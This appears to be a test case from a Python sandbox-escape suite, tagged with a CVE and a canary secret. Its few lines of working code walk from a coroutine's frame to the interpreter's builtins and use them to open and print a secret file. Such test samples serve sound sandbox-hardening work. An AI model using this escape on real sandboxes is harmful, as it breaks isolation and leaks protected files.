"""Climb from a coroutine's frame.

family: frames
canary: secret
stops: full, container
root: no
related: CVE-2023-37271
"""


async def wait():
    return None


coroutine = wait()
builtins = coroutine.cr_frame.f_builtins
coroutine.close()
print(builtins["open"](SECRET_FILE).read())
